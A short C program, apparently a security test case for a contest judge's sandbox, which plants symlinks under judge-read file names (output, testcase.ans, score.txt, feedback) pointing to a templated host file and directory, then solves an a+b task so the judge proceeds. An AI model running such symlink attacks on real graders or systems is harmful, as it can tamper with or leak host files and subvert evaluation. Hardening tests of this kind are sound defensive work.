/* Leave symlinks to a host file, and to its directory, under every name the judge might read,
 * write, chown or remove; then answer correctly, so the judge carries on with them in place. */
#include <stdio.h>
#include <unistd.h>

static const char *names[] = {
    "leak", "output", "testcase.in", "testcase.ans", "judgemessage.txt", "score.txt", 0,
};

int main(void) {
    const char *target = "@@HOST_FILE@@";
    for (int i = 0; names[i]; i++) symlink(target, names[i]);
    symlink("@@HOST_DIR@@", "feedback");
    symlink("@@HOST_DIR@@", "feedback1");
    long long a, b;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;
    printf("%lld\n", a + b);
    return 0;
}
